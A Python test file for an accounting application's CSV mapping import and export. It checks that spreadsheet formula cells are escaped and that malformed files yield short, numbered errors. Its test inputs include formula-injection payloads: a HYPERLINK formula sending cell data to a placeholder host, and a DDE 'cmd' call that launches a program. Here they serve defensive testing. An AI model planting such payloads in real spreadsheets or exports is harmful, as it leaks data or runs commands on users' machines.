"""Mapping files that nobody should have sent, and cells that a spreadsheet must not run."""

import csv
import io
from datetime import UTC, datetime

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from schemas.mappings import AccountMappingSet, ChartRuleSet
from streams.csv_text import LARGEST_FILE_BYTES, harmless, meant
from streams.mapping_csv import MOST_ERRORS, parse_mappings, render_mappings

AT = datetime(2026, 3, 1, tzinfo=UTC)
HEADER = "kind,company,gl_account,comment\n"
GOOD = HEADER + "rounding,10,3740,Öresund\n"
RUN_BY_SPREADSHEETS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
ORDINARY = st.characters(exclude_categories=["Cc", "Cs"])


def parse(content: bytes) -> tuple[list[AccountMappingSet | ChartRuleSet], list[str]]:
    lines, errors = parse_mappings(content, actor="maria", at=AT)
    return [line.event for line in lines], [str(error) for error in errors]


def product(match_value: str, comment: str | None = None) -> ChartRuleSet:
    return ChartRuleSet(
        actor="maria",
        at=AT,
        company="10",
        kind="product",
        match_on="sku",
        match_value=match_value,
        gl_account="3010",
        comment=comment,
    )


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://x.example/?"&A1,"open")',
        "=cmd|'/C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1,1)",
        "\uff1d1+1",
        "'=1+1",
        "''=1+1",
    ],
)
def test_a_value_that_a_spreadsheet_would_run_is_written_as_text_and_read_back_as_it_was(value: str) -> None:
    written = render_mappings([product(value, comment=value)])

    [row] = csv.DictReader(io.StringIO(written))
    assert (row["match_value"], row["comment"]) == (f"'{value}", f"'{value}")
    assert parse(written.encode()) == ([product(value, comment=value)], [])


def test_a_file_written_by_hand_may_have_such_a_value_as_it_is() -> None:
    header = "kind,company,gl_account,match_on,match_value\n"
    assert parse(f"{header}product,10,3010,sku,-ANL\n".encode())[0] == [product("-ANL")]
    assert parse(f"{header}product,10,3010,sku,'-ANL\n".encode())[0] == [product("-ANL")]
    assert parse(f"{header}product,10,3010,sku,'ANL\n".encode())[0] == [product("'ANL")]


@given(st.text(st.sampled_from("'=+-@\uff1d \t\rab;,\"") | ORDINARY, max_size=12).map(str.strip))
@example("'")
@example("'='")
def test_no_cell_is_run_and_each_means_what_it_was_made_of(value: str) -> None:
    cell = harmless(value)

    assert not cell.startswith(tuple(RUN_BY_SPREADSHEETS))
    assert meant(cell) == value


@given(
    values=st.lists(st.text(st.sampled_from("'=+-@;,\"") | ORDINARY, min_size=1, max_size=20), max_size=4),
    comment=st.text(st.sampled_from("'=+-@ ") | ORDINARY, max_size=20),
)
def test_an_export_gives_back_what_an_import_took(values: list[str], comment: str) -> None:
    rows = [["product", "10", "3010", "sku", value, comment] for value in values]
    text = io.StringIO()
    csv.writer(text).writerows([["kind", "company", "gl_account", "match_on", "match_value", "comment"], *rows])
    taken, errors = parse(text.getvalue().encode())

    exported = render_mappings(taken)

    if not errors:
        assert sorted(parse(exported.encode())[0], key=repr) == sorted(taken, key=repr)
    assert not any(
        cell.startswith(tuple(RUN_BY_SPREADSHEETS)) for row in csv.reader(io.StringIO(exported)) for cell in row
    )


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (GOOD.encode("utf-16"), "line 1: is UTF-16: save the file as 'CSV UTF-8'"),
        (b"\xfe\xff" + GOOD.encode("utf-16-be"), "line 1: is UTF-16: save the file as 'CSV UTF-8'"),
        (GOOD.encode("utf-32"), "line 1: is UTF-32: save the file as 'CSV UTF-8'"),
        (GOOD.encode("utf-16-le"), "line 1: has a NUL byte, as UTF-16 has: save the file as 'CSV UTF-8'"),
        (GOOD.encode("latin-1"), "line 2: is not UTF-8: save the file as 'CSV UTF-8'"),
        (b"PK\x03\x04\x14\x00\x06\x00[Content_Types].xml", "line 1: has a NUL byte, as UTF-16 has: save the file"),
        (f"{HEADER}rounding,10,3740,\nrounding,11,3740,a\0b\n".encode(), "line 3: has a NUL byte"),
        (f'{HEADER}rounding,10,3740,"{"x" * 200_000}"\n'.encode(), "line 2: is not CSV: field larger than field limit"),
        (f'{HEADER}rounding,10,3740,"{"x" * 200_000}'.encode(), "line 2: is not CSV: field larger than field limit"),
        (f'{HEADER}rounding,10,3740,"a"b\n'.encode(), "line 2: is not CSV: ',' expected after '\"'"),
        (f"{HEADER}rounding,10,3740,{'x' * 5_000}\n".encode(), "line 2: comment is longer than 255 characters"),
        (f"{HEADER}{'x' * 5_000},10,3740,\n".encode(), f"line 2: kind is '{'x' * 40}', must be one of"),
        (f"{HEADER}rounding,10,3740,\x1b[2J\n".encode(), "line 2: comment has a control character"),
        (b"\r\n\r\n" + GOOD.encode(), "line 1: has no header"),
        (b"\x00", "line 1: has a NUL byte"),
        (f"{'x' * 5_000},company,gl_account,kind\n".encode(), f"line 1: unknown column '{'x' * 40}'"),
        (b"x" * (LARGEST_FILE_BYTES + 1), "line 1: begins a file of more than 16 MiB: split it"),
    ],
    ids=lambda value: f"{len(value)} bytes" if isinstance(value, bytes) else value[:40],
)
def test_a_file_that_is_no_mapping_file_is_one_short_line_with_its_number(content: bytes, expected: str) -> None:
    events, errors = parse(content)

    assert events == []
    assert len(errors) == 1
    assert errors[0].startswith(expected)
    assert len(errors[0]) < 400


def test_a_header_of_very_many_columns_is_told_in_a_few_lines() -> None:
    events, errors = parse(f"kind,company,gl_account{',company' * 100_000}{',x' * 100_000}\n".encode())

    assert events == []
    assert errors[-1] == "line 1: column company is there twice"
    assert len(errors) < 10


def test_a_file_with_an_error_in_every_line_is_checked_only_as_far_as_a_person_reads() -> None:
    _, errors = parse((HEADER + "vat,10,1,\n" * 5_000).encode())

    assert len(errors) == MOST_ERRORS + 1
    assert errors[-1] == "line 102: and what follows was not checked: mend the lines above first"


@given(st.binary(max_size=300) | st.text(max_size=100).map(lambda text: (HEADER + text).encode(errors="replace")))
def test_whatever_a_file_holds_is_read_or_told_with_its_line(content: bytes) -> None:
    events, errors = parse(content)

    assert bool(errors) or all(event.company for event in events)
    assert all(error.startswith("line ") for error in errors)
